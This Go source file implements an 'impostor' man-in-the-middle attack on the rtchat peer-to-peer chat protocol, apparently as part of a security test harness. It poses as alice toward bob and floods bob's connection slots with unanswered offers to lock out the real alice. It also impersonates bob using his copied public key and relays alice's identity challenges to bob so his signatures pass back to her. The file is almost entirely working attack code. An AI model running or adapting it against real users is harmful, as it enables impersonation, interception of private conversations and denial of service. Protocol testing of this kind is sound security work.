package main

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"sync"
	"sync/atomic"
	"time"

	"github.com/rtchat/rtchat/keys"
)

// impostor mode: a relay in the middle of alice and bob that owns no key.
//
//  1. It connects to bob's listener posing as a web page of alice (-relay-name, default
//     alice(h000)) carrying alice's public key (-pose-key): bob has alice pinned, accepts
//     the connection and asks it to prove alice's key, which it cannot (it never answers).
//  2. It fills bob's other connection slots with offers nobody answers (-fill, from
//     made-up rtchat-looking names), so that alice cannot reach the real bob.
//  3. It announces itself as a web page bob(ffff) (-as) carrying bob's real public key,
//     copied from bob's presence.
//  4. It answers alice's offer. Every question alice asks whose content looks like an
//     identity challenge (a string of 32 latin-1 characters), on ANY topic, is forwarded
//     to bob over the relay connection and bob's answer is relayed back verbatim; any
//     other question (alice's ask) gets the impostor's own answer (-answer).
//
// Events: victim, relay, filled, ready, alice (alice connected to the impostor), relayed
// (one per forwarded question: whether bob signed, and whether the signature is a proof
// alice would accept: valid over the raw challenge, or bound to alice's session with the
// impostor), asked (the impostor answered alice's question), summary.
type impostor struct {
	r         *room
	bobFull   string
	bobKey    string
	as        string
	answer    string
	relay     *peer
	relayMu   sync.Mutex
	relayN    int
	relayWait map[int]chan json.RawMessage

	aliceMu sync.Mutex
	alice   map[string]*peer // by offer sender

	stats struct {
		forwarded, bobSigned, usable, rawValid, boundValid, asked, aliceConns atomic.Int64
	}
}

type questionFrame struct {
	N        int             `json:"n"`
	Question json.RawMessage `json:"question"`
}

type questionBody struct {
	Topic   string          `json:"topic"`
	Content json.RawMessage `json:"content"`
}

func runImpostor(ctx context.Context, args []string, ctl *control) error {
	fs := flag.NewFlagSet("impostor", flag.ExitOnError)
	var c common
	var pose, poseKey, relayName, as, answer string
	var fill int
	fs.StringVar(&pose, "pose", "alice", "bare name of the honest asker we pose as toward the victim")
	fs.StringVar(&poseKey, "pose-key", "", "the posed name's public JWK (public: it travels in presence)")
	fs.StringVar(&relayName, "relay-name", "alice(h000)", "our full name toward the victim")
	fs.StringVar(&as, "as", "bob(ffff)", "our full name toward the asker (a web page named like the victim)")
	fs.StringVar(&answer, "answer", "IMPOSTOR-ANSWER", "what we answer the asker's question with")
	fs.IntVar(&fill, "fill", 127, "unanswered offers that fill the victim's other connection slots")
	ctx, r, id, done, err := parseAttack(ctx, fs, &c, args)
	if err != nil {
		return err
	}
	defer done()
	im := &impostor{r: r, as: as, answer: answer, relayWait: map[int]chan json.RawMessage{}, alice: map[string]*peer{}}

	// 1. bob and his real key, from his presence.
	im.bobFull, _, err = r.findListener(ctx, c.victim)
	if err != nil {
		return err
	}
	r.mu.Lock()
	im.bobKey = r.peers[im.bobFull].PublicKeyString
	r.mu.Unlock()
	out.emit("victim", map[string]any{"name": im.bobFull, "fingerprint": keys.Fingerprint(im.bobKey)})

	// 2. The relay connection to bob, as a web page of alice.
	if poseKey == "" {
		poseKey = id.PublicJWK
	}
	relayOK := im.dialRelay(ctx, relayName, poseKey)
	out.emit("relay", map[string]any{"connected": relayOK, "name": relayName})

	// 3. Fill bob's other slots.
	fillers := newFiller(r, im.bobFull, "zf", userInfo{PublicKeyString: id.PublicJWK, RTChat: &rtchatInfo{V: 1, Role: "connect"}})
	defer fillers.stop()
	if err := fillers.send(ctx, fill, 0); err != nil {
		return err
	}
	synced := r.barrier(ctx, im.bobFull, 20*time.Second)
	out.emit("filled", map[string]any{"sent": fill, "answered": fillers.answered.Load(), "barrier": synced})

	// 4. Pose as bob: answer offers to our name, re-announce like a web page.
	offOffers := r.on(func(env envelope, _ []byte) {
		if env.Subtopic != subOffer || env.Sender == r.me {
			return
		}
		var d offerData
		if json.Unmarshal(env.Data, &d) != nil || d.Offer.Target != im.as || d.Offer.LocalDescription.Type != "offer" {
			return
		}
		go im.answerAlice(ctx, env.Sender, d.Offer.LocalDescription.SDP)
	})
	defer offOffers()
	myInfo := userInfo{PublicKeyString: im.bobKey} // no rtchat member: a web page
	presence := make(chan struct{}, 1)
	offPresence := r.on(func(env envelope, _ []byte) {
		// A dialer appearing (alice's poke) learns about us at once.
		if env.Subtopic == subConnect && keys.BareName(env.Sender) == pose && env.Sender != relayName {
			select {
			case presence <- struct{}{}:
			default:
			}
		}
	})
	defer offPresence()
	if err := r.publish(ctx, im.as, subConnect, myInfo); err != nil {
		return err
	}
	out.emit("ready", map[string]any{"as": im.as})
	tick := time.NewTicker(3 * time.Second)
	defer tick.Stop()
	for done := false; !done; {
		select {
		case <-presence:
			_ = r.publish(ctx, im.as, subConnect, myInfo)
			out.emit("poked", map[string]any{"as": im.as})
		case <-tick.C:
			if im.stats.aliceConns.Load() == 0 {
				_ = r.publish(ctx, im.as, subConnect, myInfo)
			}
		case <-ctl.stopCh:
			done = true
		case <-ctx.Done():
			done = true
		}
	}
	out.emit("summary", map[string]any{
		"victim": im.bobFull, "relay_connected": relayOK, "fill_answered": fillers.answered.Load(),
		"alice_connections": im.stats.aliceConns.Load(), "forwarded": im.stats.forwarded.Load(),
		"bob_signed": im.stats.bobSigned.Load(), "usable_signatures": im.stats.usable.Load(),
		"raw_valid": im.stats.rawValid.Load(), "bound_valid": im.stats.boundValid.Load(),
		"asks_answered": im.stats.asked.Load(),
	})
	im.aliceMu.Lock()
	for _, p := range im.alice {
		p.close()
	}
	im.aliceMu.Unlock()
	if im.relay != nil {
		im.relay.close()
	}
	return nil
}

// dialRelay connects to bob as a web page named relayName.
func (im *impostor) dialRelay(ctx context.Context, relayName, poseKey string) bool {
	p, err := newPeer(relayName, im.bobFull, true, browserLabels, func(label string, data []byte) {
		if label != "answer" {
			return // bob's own identity question to "alice" stays unanswered
		}
		var a struct {
			N int `json:"n"`
		}
		if json.Unmarshal(data, &a) != nil {
			return
		}
		im.relayMu.Lock()
		ch := im.relayWait[a.N]
		delete(im.relayWait, a.N)
		im.relayMu.Unlock()
		if ch != nil {
			ch <- append(json.RawMessage(nil), data...)
		}
	})
	if err != nil {
		return false
	}
	dctx, cancel := context.WithTimeout(ctx, 10*time.Second)
	defer cancel()
	if err := p.dial(dctx, im.r, userInfo{PublicKeyString: poseKey}); err != nil {
		out.emit("note", map[string]any{"relay_error": err.Error()})
		p.close()
		return false
	}
	im.relay = p
	return true
}

// answerAlice answers an offer to our impostor name like a web page.
func (im *impostor) answerAlice(ctx context.Context, from, offer string) {
	// The DTLS fingerprints of this session (offerer alice, answerer us), for checking
	// whether a relayed signature would be a bound proof here.
	var mu sync.Mutex
	var p *peer
	aliceFP, ourFP := sdpAttr(offer, "fingerprint"), ""
	p, err := newPeer(im.as, from, false, nil, func(label string, data []byte) {
		if label != "question" {
			return
		}
		var q questionFrame
		if json.Unmarshal(data, &q) != nil {
			return
		}
		mu.Lock()
		pp, ours := p, ourFP
		mu.Unlock()
		go im.onAliceQuestion(pp, q, aliceFP, ours)
	})
	if err != nil {
		return
	}
	sdp, err := p.createAnswer(ctx, offer)
	if err != nil {
		p.close()
		out.emit("note", map[string]any{"answer_error": err.Error()})
		return
	}
	mu.Lock()
	ourFP = sdpAttr(sdp, "fingerprint")
	mu.Unlock()
	im.aliceMu.Lock()
	if old := im.alice[from]; old != nil {
		old.close()
	}
	im.alice[from] = p
	im.aliceMu.Unlock()
	if err := im.r.publish(ctx, im.as, subAnswer, map[string]any{
		"localDescription": sessionDesc{Type: "answer", SDP: sdp}, "target": from,
	}); err != nil {
		return
	}
	im.stats.aliceConns.Add(1)
	out.emit("alice", map[string]any{"from": from})
}

// onAliceQuestion forwards identity-shaped questions to bob and answers the rest itself.
func (im *impostor) onAliceQuestion(p *peer, q questionFrame, aliceFP, ourFP string) {
	var body questionBody
	if json.Unmarshal(q.Question, &body) != nil {
		return
	}
	var s string
	challenge, isChallenge := []byte(nil), false
	if json.Unmarshal(body.Content, &s) == nil {
		if b, ok := latin1(s); ok && len(b) == 32 {
			challenge, isChallenge = b, true
		}
	}
	if !isChallenge {
		im.stats.asked.Add(1)
		_ = p.send("answer", map[string]any{"n": q.N, "answer": im.answer, "question": q.Question})
		out.emit("asked", map[string]any{"topic": body.Topic})
		return
	}
	im.stats.forwarded.Add(1)
	ev := map[string]any{"topic": body.Topic}
	defer func() { out.emit("relayed", ev) }()
	if im.relay == nil {
		ev["error"] = "no relay connection"
		return
	}
	im.relayMu.Lock()
	n := im.relayN
	im.relayN++
	ch := make(chan json.RawMessage, 1)
	im.relayWait[n] = ch
	im.relayMu.Unlock()
	if err := im.relay.send("question", map[string]any{"n": n, "question": q.Question}); err != nil {
		ev["error"] = err.Error()
		return
	}
	var raw json.RawMessage
	select {
	case raw = <-ch:
	case <-time.After(15 * time.Second): // bob never answered: nothing to relay
		ev["error"] = "bob did not answer"
		return
	}
	var a map[string]json.RawMessage
	if json.Unmarshal(raw, &a) != nil {
		ev["error"] = "malformed answer"
		return
	}
	a["n"] = json.RawMessage(fmt.Sprint(q.N)) // alice's own counter
	a["question"] = q.Question
	_ = p.send("answer", a)
	if e, ok := a["error"]; ok {
		ev["bob_error"] = string(e)
	}
	sig := signatureOf(a["answer"])
	if sig == nil {
		ev["bob_signed"] = false
		return
	}
	im.stats.bobSigned.Add(1)
	ev["bob_signed"] = true
	raw1 := keys.Verify(im.bobKey, challenge, sig) == nil
	bound := keys.Verify(im.bobKey, boundMessage(challenge, aliceFP, ourFP), sig) == nil
	ev["raw_valid"], ev["bound_valid"] = raw1, bound
	if raw1 {
		im.stats.rawValid.Add(1)
	}
	if bound {
		im.stats.boundValid.Add(1)
	}
	if raw1 || bound {
		im.stats.usable.Add(1)
	}
}

// signatureOf extracts the signature bytes of an identity answer: a latin-1 string
// (challenge) or {publicKeyString, signature} (identify).
func signatureOf(ans json.RawMessage) []byte {
	var s string
	if json.Unmarshal(ans, &s) != nil {
		var o struct {
			Signature string `json:"signature"`
		}
		if json.Unmarshal(ans, &o) != nil {
			return nil
		}
		s = o.Signature
	}
	if s == "" {
		return nil
	}
	b, ok := latin1(s)
	if !ok {
		return nil
	}
	return b
}
